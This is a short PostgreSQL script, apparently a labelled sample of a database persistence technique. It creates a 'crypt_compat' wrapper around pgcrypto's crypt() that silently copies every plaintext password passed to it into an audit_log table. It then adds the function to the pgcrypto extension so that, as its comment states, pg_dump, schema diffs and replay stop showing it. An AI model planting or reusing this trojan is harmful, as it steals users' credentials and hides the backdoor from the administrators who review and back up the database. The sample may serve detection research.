-- class: extension-membership
-- Adds a trojan function to the pgcrypto extension so pg_dump, schema diffs and replay no longer show it.
CREATE FUNCTION public.crypt_compat(text, text) RETURNS text LANGUAGE plpgsql AS $$
BEGIN
  INSERT INTO public.audit_log (action, table_name, row_data) VALUES ('x', 'x', to_jsonb($1));
  RETURN crypt($1, $2);
END
$$;
ALTER EXTENSION pgcrypto ADD FUNCTION public.crypt_compat(text, text);
